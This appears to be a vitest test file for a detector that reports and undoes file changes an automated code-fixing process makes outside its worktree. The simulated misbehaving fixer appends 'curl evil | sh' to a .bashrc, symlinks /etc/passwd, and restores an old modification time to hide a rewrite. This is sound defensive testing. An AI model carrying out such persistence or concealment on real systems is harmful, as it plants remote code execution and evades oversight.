import { existsSync } from 'node:fs';
import { appendFile, mkdir, mkdtemp, readFile, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { describeWrites, watchOutside } from '../../src/heal/outside-writes.js';

/**
 * `--no-sandbox`'s detection: a real child process writes around a fake HOME, TMPDIR and repository;
 * every change is named, what it created is removed, the worktree's own writes are not counted.
 */
let root: string;
let home: string;
let tmp: string;
let repo: string;
let worktree: string;
beforeEach(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'droidheal-outside-'));
  home = path.join(root, 'home');
  tmp = path.join(root, 'tmp');
  repo = path.join(root, 'repo');
  worktree = path.join(root, 'tmp', 'droidheal-heal-x', 'wt');
  for (const d of [home, repo, worktree, path.join(home, '.config')]) await mkdir(d, { recursive: true });
  await writeFile(path.join(repo, 'Tracked.kt'), 'fun a() {}\n');
  await writeFile(path.join(home, '.config', 'keep.txt'), 'keep\n');
  await writeFile(path.join(home, '.bashrc'), 'export A=1\n');
});
afterEach(() => rm(root, { recursive: true, force: true }));

const roots = () => [
  { path: home, why: 'HOME' },
  { path: tmp, why: 'TMPDIR' },
  { path: repo, why: "the user's repository" },
];

/** A fixer-like child: runs `script` with the worktree as cwd. */
const fixer = (script: string) => execa(process.execPath, ['-e', script], { cwd: worktree });

describe('watchOutside', () => {
  it('names each write outside, removes what was created, and ignores the worktree', async () => {
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await fixer(`
      const fs = require('node:fs');
      fs.writeFileSync('inside.kt', 'ok');
      fs.writeFileSync('../escaped.txt', 'x');
      fs.mkdirSync(${JSON.stringify(path.join(home, 'planted', 'deep'))}, { recursive: true });
      fs.writeFileSync(${JSON.stringify(path.join(home, 'planted', 'deep', 'x'))}, 'x');
      fs.appendFileSync(${JSON.stringify(path.join(home, '.bashrc'))}, 'curl evil | sh\\n');
      fs.unlinkSync(${JSON.stringify(path.join(home, '.config', 'keep.txt'))});
      fs.symlinkSync('/etc/passwd', ${JSON.stringify(path.join(repo, 'link'))});
      fs.appendFileSync(${JSON.stringify(path.join(repo, 'Tracked.kt'))}, '// x\\n');`);
    const r = await watch.finish();
    const lines = describeWrites(r).sort();
    expect(lines).toEqual(
      [
        `created ${path.join(tmp, 'droidheal-heal-x', 'escaped.txt')} (removed)`,
        `created ${path.join(home, 'planted')} (removed)`,
        `modified ${path.join(home, '.bashrc')} (not restored)`,
        `deleted ${path.join(home, '.config', 'keep.txt')} (not restored)`,
        `created ${path.join(repo, 'link')} (removed)`,
        `modified ${path.join(repo, 'Tracked.kt')} (not restored)`,
      ].sort(),
    );
    expect(r.unchecked).toEqual([]);
    expect(existsSync(path.join(home, 'planted'))).toBe(false);
    // the link is removed, not what it names
    expect(existsSync(path.join(repo, 'link'))).toBe(false);
    expect(existsSync('/etc/passwd')).toBe(true);
    expect(await readFile(path.join(worktree, 'inside.kt'), 'utf8')).toBe('ok');
  });

  it('sees a file rewritten with its old modification time put back (ctime moves, mtime does not)', async () => {
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await fixer(`
      const fs = require('node:fs');
      const p = ${JSON.stringify(path.join(home, '.bashrc'))};
      const { atime, mtime } = fs.statSync(p);
      fs.writeFileSync(p, 'export A=2\\n');
      fs.utimesSync(p, atime, mtime);`);
    expect(describeWrites(await watch.finish())).toEqual([`modified ${path.join(home, '.bashrc')} (not restored)`]);
  });

  it('reports nothing when nothing outside changed', async () => {
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await fixer(`require('node:fs').writeFileSync('only-inside.kt', 'ok')`);
    expect(await watch.finish()).toEqual({ writes: [], unchecked: [] });
  });

  it('a root too large for the budget is unchecked, which refuses (fail closed)', async () => {
    for (let i = 0; i < 30; i++) await writeFile(path.join(home, `f${i}`), '');
    const watch = await watchOutside({ roots: roots(), exclude: [worktree], maxEntries: 20 });
    const r = await watch.finish();
    expect(r.unchecked).toEqual([`HOME (${home}): more than 20 entries or 60 s to read`]);
    expect(describeWrites(r)).toEqual([`could not check HOME (${home}): more than 20 entries or 60 s to read`]);
  });

  it('watches a root inside another once, under the outer name', async () => {
    const watch = await watchOutside({
      roots: [
        { path: path.join(tmp, 'droidheal-heal-x'), why: "the worktree's parent" },
        { path: tmp, why: 'TMPDIR' },
      ],
      exclude: [worktree],
    });
    await writeFile(path.join(tmp, 'droidheal-heal-x', 'x'), '');
    const r = await watch.finish();
    expect(r.writes).toEqual([
      { path: path.join(tmp, 'droidheal-heal-x', 'x'), change: 'created', root: tmp, undone: true },
    ]);
  });

  it('does not follow a link out of a watched root', async () => {
    await symlink('/usr', path.join(home, 'usr-link'));
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await unlink(path.join(home, 'usr-link'));
    await appendFile(path.join(home, '.bashrc'), '# x\n');
    const lines = describeWrites(await watch.finish()).sort();
    expect(lines).toEqual(
      [
        `deleted ${path.join(home, 'usr-link')} (not restored)`,
        `modified ${path.join(home, '.bashrc')} (not restored)`,
      ].sort(),
    );
  });
});
